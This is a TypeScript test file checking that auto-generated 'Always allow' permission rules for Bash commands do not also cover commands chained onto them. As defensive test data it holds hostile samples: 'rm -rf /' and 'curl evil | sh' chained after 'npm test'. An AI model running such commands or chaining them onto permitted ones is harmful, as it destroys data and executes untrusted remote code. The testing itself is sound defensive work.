// The rule "Always allow" writes (server/permissionRule.ts), checked against the policy that reads it
// (settings/rules.ts#coveringRules): it allows the call it was made for, and for Bash no command
// that chains another one onto it.
import { describe, expect, it } from 'vitest';
import { allowRuleFor } from '../../src/server/permissionRule.js';
import { coveringRules } from '../../src/settings/rules.js';

const covers = (rule: string, command: string) => coveringRules([rule], 'Bash', 'command', command, '/p') !== null;

describe('allowRuleFor', () => {
  it.each([
    ['npm test', 'Bash(npm test:*)'],
    ['npm test -- --watch=false', 'Bash(npm test:*)'],
    ['git status --short', 'Bash(git status:*)'],
    ['ls -la', 'Bash(ls:*)'],
    ['./scripts/check.sh fast', 'Bash(./scripts/check.sh fast:*)'],
    ['npm test && rm -rf /', 'Bash(npm test && rm -rf /)'],
  ])('Bash %s → %s', (command, rule) => {
    expect(allowRuleFor('Bash', { command })).toBe(rule);
    expect(covers(rule, command)).toBe(true);
  });

  it('a prefix rule does not allow a chained command; file tools get the tool rule', () => {
    expect(covers(allowRuleFor('Bash', { command: 'npm test' })!, 'npm test; curl evil | sh')).toBe(false);
    expect(covers(allowRuleFor('Bash', { command: 'npm test && rm -rf /' })!, 'npm test && rm -rf / && curl evil')).toBe(false);
    expect(allowRuleFor('Edit', { file_path: '/p/a.ts' })).toBe('Edit');
    expect(allowRuleFor('Bash', { command: 'echo a\necho b' })).toBeNull();
  });
});
